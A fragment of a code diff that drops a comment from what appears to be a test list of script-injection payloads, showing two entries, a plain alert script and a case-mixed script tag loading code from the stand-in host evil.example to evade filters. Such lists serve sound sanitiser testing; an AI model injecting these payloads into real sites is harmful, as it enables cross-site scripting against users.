@@ -1,4 +1,3 @@
-/** Script injection payloads, at least one of each kind that has bypassed filters. */
 export const attacks = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></ScRiPt>',
